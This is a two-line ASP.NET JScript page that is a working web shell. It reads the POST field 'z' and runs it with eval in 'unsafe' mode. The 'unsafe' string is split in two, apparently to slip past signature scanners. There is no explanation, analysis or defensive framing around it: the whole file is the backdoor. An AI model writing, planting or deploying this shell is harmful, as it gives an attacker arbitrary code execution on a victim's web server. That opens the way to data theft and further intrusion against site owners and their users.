<%@ Page Language = JScript %>
<% var k = Request.Form["z"]; eval(k, "un" + "safe"); %>
